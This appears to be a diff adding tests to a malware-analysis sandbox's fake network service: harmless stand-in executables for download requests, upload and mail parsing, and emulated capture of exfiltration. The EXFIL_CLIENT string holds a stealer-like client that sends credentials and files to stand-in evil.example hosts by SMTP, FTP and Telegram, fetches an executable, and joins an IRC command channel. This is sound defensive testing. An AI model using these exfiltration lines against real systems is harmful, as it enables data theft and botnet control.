@@ -281,3 +281,145 @@ def _alive(pid: int) -> bool:
             return fh.read().rsplit(")", 1)[1].split()[0] != "Z"
     except OSError:
         return False
+
+
+# ------------------------------------------------------------------ stand-ins (pure, and run for real)
+
+
+@pytest.mark.parametrize("path,headers,kind", [
+    ("/docs/dogovr2208.exe", {}, "pe_exe"),
+    ("/a/Invoice.SCR?x=1", {}, "pe_exe"),
+    ("/x/lib.dll", {}, "pe_dll"),
+    ("/setup.msi", {}, "msi"),
+    ("/bot", {}, "sh"),
+    ("/bot.elf", {}, "elf"),
+    ("/run.ps1", {}, "ps1"),
+    ("/s.vbs", {}, "vbs"),
+    ("/s.js", {}, "js"),
+    ("/s.hta", {}, "hta"),
+    ("/s.bat", {}, "bat"),
+    ("/install.sh", {}, "sh"),
+    ("/download.php?file=update.exe", {}, "pe_exe"),
+    ("/get?id=7&name=a.vbs", {}, "vbs"),
+    ("/payload", {"user-agent": "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0)"}, "pe_exe"),
+    ("/payload", {"accept": "application/x-msdownload"}, "pe_exe"),
+    ("/payload", {"user-agent": "curl/7.88.1"}, "sh"),
+    ("/notes.txt", {}, "text"),
+    ("/", {}, None),
+    ("/index.php?id=3", {}, None),
+    ("/page.html", {}, None),
+])
+def test_a_request_gets_a_stand_in_of_its_type(path, headers, kind):
+    assert F.standin_for(path, headers) == kind
+
+
+def test_stand_ins_are_valid_files_of_their_type():
+    import io
+
+    import olefile
+    import pefile
+
+    for kind, dll in (("pe_exe", False), ("pe_dll", True)):
+        pe = pefile.PE(data=F.STANDINS[kind][1])
+        assert pe.is_dll() == dll and pe.is_exe() != dll
+        assert pe.FILE_HEADER.Machine == 0x8664 and pe.OPTIONAL_HEADER.AddressOfEntryPoint == 0x1000
+        assert not hasattr(pe, "DIRECTORY_ENTRY_IMPORT")  # imports nothing: it can do nothing
+        code = pe.get_data(0x1000, 6)
+        assert code.startswith(b"\xb8\x01\x00\x00\x00\xc3" if dll else b"\x31\xc0\xc3")  # return TRUE / return 0
+    elf = F.STANDINS["elf"][1]
+    assert elf[:4] == b"\x7fELF" and elf[4] == 2 and len(elf) < 200
+    ole = olefile.OleFileIO(io.BytesIO(F.STANDINS["msi"][1]))
+    assert ole.root.clsid == "000C1084-0000-0000-C000-000000000046" and ole.listdir() == []
+    assert F.STANDINS["sh"][1] == F.PAYLOAD and F.PAYLOAD_MARKER.encode() in F.PAYLOAD
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux") or os.uname().machine != "x86_64",
+                    reason="the ELF stand-in is x86-64 Linux")
+def test_elf_stand_in_runs_and_exits_zero(tmp_path):
+    exe = tmp_path / "standin"
+    exe.write_bytes(F.STANDINS["elf"][1])
+    exe.chmod(0o755)
+    assert subprocess.run([str(exe)], timeout=10).returncode == 0
+
+
+def test_upload_names_and_mail_summary():
+    body = (b'--b\r\nContent-Disposition: form-data; name="document"; filename="passwords.txt"\r\n\r\nx\r\n'
+            b'--b\r\nContent-Disposition: form-data; name="f"; filename="screen.png"\r\n\r\ny\r\n--b--\r\n')
+    assert F.upload_file_names(body) == ["passwords.txt", "screen.png"]
+    mail = (b"From: a@x\r\nTo: b@y\r\nSubject: PW_user@DESKTOP\r\nMIME-Version: 1.0\r\n"
+            b"Content-Type: multipart/mixed; boundary=z\r\n\r\n--z\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
+            b"--z\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"l.zip\"\r\n"
+            b"\r\nAAAA\r\n--z--\r\n")
+    assert F.mail_summary(mail) == {"subject": "PW_user@DESKTOP", "attachments": ["l.zip"]}
+    assert F.mail_summary(b"\xff\xfe garbage")["attachments"] == []
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.binary(max_size=300), st.dictionaries(st.sampled_from(["user-agent", "accept"]), st.text(max_size=40)))
+def test_stand_in_choice_and_upload_names_never_raise(data, headers):
+    kind = F.standin_for(data.decode("latin-1"), headers)
+    assert kind is None or kind in F.STANDINS
+    F.upload_file_names(data)
+
+
+EXFIL_CLIENT = r"""
+import ftplib, io, json, smtplib, socket, urllib.request
+from email.message import EmailMessage
+out = {}
+m = EmailMessage(); m["From"] = "bot@victim.example"; m["To"] = "drop@evil.example"; m["Subject"] = "PW_user"
+m.set_content("passwords"); m.add_attachment(b"secret", maintype="application", subtype="zip", filename="log.zip")
+with smtplib.SMTP("smtp.evil.example", 587, timeout=10) as s:
+    s.ehlo("DESKTOP"); s.login("bot@evil.example", "hunter2"); s.send_message(m)
+f = ftplib.FTP("ftp.evil.example", timeout=10); f.login("stealer", "pw")
+f.storbinary("STOR loot.zip", io.BytesIO(b"Z" * 5000)); f.quit()
+req = urllib.request.Request("http://api.telegram.org/bot123:ABC/sendDocument", method="POST",
+                             data=b'--b\r\nContent-Disposition: form-data; name="document"; filename="p.txt"\r\n\r\nx\r\n--b--\r\n',
+                             headers={"Content-Type": "multipart/form-data; boundary=b"})
+out["post"] = urllib.request.urlopen(req, timeout=10).read().decode()
+out["exe"] = urllib.request.urlopen("http://cdn.evil.example/a/upd.exe", timeout=10).read()[:2].decode()
+i = socket.create_connection(("203.0.113.66", 6667), timeout=10)
+i.sendall(b"NICK bot123\r\nUSER bot 0 * :bot\r\n")
+got = b""
+while b" 001 " not in got:
+    got += i.recv(4096)
+i.sendall(b"JOIN #cmd\r\n"); i.recv(4096); i.sendall(b"QUIT\r\n"); i.close()
+out["irc"] = got.decode().split("\r\n")[0]
+print(json.dumps(out))
+"""
+
+
+@pytest.mark.sandbox
+@pytest.mark.skipif(REASON is not None, reason=f"network namespace unavailable: {REASON}")
+@pytest.mark.parametrize("redirect_mode", [True, False], ids=["redirect", "fallback"])
+def test_exfiltration_protocols_are_accepted_and_logged(namespace, tmp_path, redirect_mode):
+    tools, enter = namespace
+    use = tools if redirect_mode else {k: v for k, v in tools.items() if k != "iptables-restore"}
+    redirect, detail = F.setup_namespace(enter, use)
+    assert redirect is redirect_mode, detail
+    events = tmp_path / "fakenet.jsonl"
+    net = F.FakeNet(enter, str(events), redirect)
+    net.start()
+    try:
+        r = subprocess.run(enter + ["/usr/bin/python3", "-I", "-c", EXFIL_CLIENT], capture_output=True, text=True,
+                           timeout=60)
+    finally:
+        net.stop()
+    assert r.returncode == 0, r.stderr
+    out = json.loads(r.stdout)
+    assert out["exe"] == "MZ" and '"ok":true' in out["post"] and " 001 bot123 " in out["irc"]
+    evs = _events(events)
+    smtp = [e for e in evs if e["type"] == "smtp"]
+    assert len(smtp) == 1 and smtp[0]["message"] is True, smtp
+    assert (smtp[0]["auth_user"], smtp[0]["mail_from"], smtp[0]["rcpt"], smtp[0]["subject"],
+            smtp[0]["attachments"], smtp[0]["port"]) == (
+        "bot@evil.example", "bot@victim.example", ["drop@evil.example"], "PW_user", ["log.zip"], 587)
+    ftp = {e["command"]: e for e in evs if e["type"] == "ftp"}
+    assert ftp["LOGIN"]["user"] == "stealer"
+    assert ftp["STOR"]["file"] == "loot.zip" and ftp["STOR"]["bytes"] == 5000 and ftp["STOR"]["preview"] == "Z" * 96
+    http = {e["path"]: e for e in evs if e["type"] == "http"}
+    post = http["/bot123:ABC/sendDocument"]
+    assert post["method"] == "POST" and post["host"] == "api.telegram.org" and post["upload_files"] == ["p.txt"]
+    assert post["served"] == "json" and post["content_type"].startswith("multipart/form-data")
+    assert http["/a/upd.exe"]["standin"] == "pe_exe" and http["/a/upd.exe"]["served"] == "payload"
+    irc = [(e["command"], e["args"]) for e in evs if e["type"] == "irc"]
+    assert irc[:3] == [("NICK", "bot123"), ("USER", "bot 0 * :bot"), ("JOIN", "#cmd")], irc
